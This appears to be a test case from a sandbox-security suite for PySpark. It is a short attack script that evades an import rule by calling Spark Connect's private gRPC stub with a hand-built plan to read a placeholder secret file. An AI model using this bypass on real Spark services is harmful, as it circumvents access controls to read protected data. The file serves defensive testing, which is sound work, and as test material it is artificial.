# attack: network
# rule: import-not-allowed
# goal: Send the engine a plan of one's own. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

from pyspark.sql.connect.proto import ExecutePlanRequest

request = ExecutePlanRequest(session_id='x')
request.plan.root.read.data_source.format = 'text'
request.plan.root.read.data_source.paths.append('ATTACK_SECRET')
for answer in spark._client._stub.ExecutePlan(request):
    if answer.arrow_batch.row_count:
        print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
